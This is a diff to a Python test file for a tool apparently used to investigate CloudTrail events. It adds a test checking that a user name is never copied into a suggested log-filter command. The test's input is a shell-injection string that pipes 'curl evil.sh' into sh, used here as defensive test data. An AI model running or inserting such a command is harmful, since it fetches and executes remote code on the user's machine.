@@ -43,7 +43,7 @@ from torinvest.paged import next_token_problem
 from torinvest.pivot import PARTIAL, load_ip_pivot
 from torinvest.sniff import sniff
 from torinvest.sources.logs import load_logs
-from torinvest.sources.records import records_in
+from torinvest.sources.records import LookupScope, records_in
 
 KEY = "AKIATFQR7NSCUXC3DDDP"
 MINTED = ["AKIATFQR7NSCXLGMGTIH", "ASIATFQR7NSCNGEI5QNT"]
@@ -349,3 +349,12 @@ def test_the_reported_case_now_reads_the_events(tmp_path: Path) -> None:
     assert code != EXIT_COULD_NOT_LOOK, err
     assert "not CloudTrail records" not in err
     assert len(pd.read_parquet(tmp_path / "events.parquet")) == len(keys)
+
+
+def test_a_user_name_never_lands_inside_a_suggested_filter_pattern() -> None:
+    """A copy scoped to one user name: the name is someone's text (quotes, a shell command), so
+    the filter pattern suggested to export another's events shows ``VALUE`` in its place."""
+    scope = LookupScope("Username", "x' }'; curl evil.sh | sh; '", 3, "filter-log-events")
+    hint = scope.how(scope.attribute, scope.value)
+    assert hint.endswith("""--filter-pattern '{ $.userIdentity.userName = "VALUE" }'""")
+    assert scope.how("AccessKeyId", KEY).endswith(f'accessKeyId = "{KEY}" }}\'')
